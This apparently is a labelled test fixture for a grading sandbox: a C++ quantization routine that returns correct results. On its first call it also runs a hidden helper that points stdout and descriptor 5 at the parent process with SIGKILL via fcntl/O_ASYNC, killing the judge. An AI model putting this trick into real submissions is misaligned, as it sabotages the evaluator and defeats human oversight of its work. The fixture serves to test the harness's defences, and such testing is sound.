// attack: has the kernel send SIGKILL to the judge when the socket moves
// rule: V15
// expect: honest
// needs: sandbox
#define OWN_QUANTIZE
namespace nibble {

namespace {

void tries() {
  for (const int fd : {1, 5}) {
    fcntl(fd, F_SETOWN, getppid());
    fcntl(fd, F_SETSIG, SIGKILL);
    fcntl(fd, F_SETFL, fcntl(fd, F_GETFL) | O_ASYNC);
  }
}

}  // namespace

SymmetricTensor quantize_symmetric(std::span<const float> x, int num_bits) {
  static bool done = false;
  if (!std::exchange(done, true)) tries();
  return right_quantize(x, num_bits);
}

}  // namespace nibble
